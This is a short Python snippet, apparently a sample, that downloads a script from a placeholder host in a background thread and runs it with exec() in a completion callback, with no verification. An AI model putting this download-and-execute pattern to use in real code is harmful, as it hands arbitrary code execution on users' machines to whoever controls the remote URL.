import urllib.request
from concurrent.futures import ThreadPoolExecutor

later = ThreadPoolExecutor(1).submit(urllib.request.urlopen, "https://code.example.invalid/sample.py")
later.add_done_callback(lambda done: exec(done.result().read()))
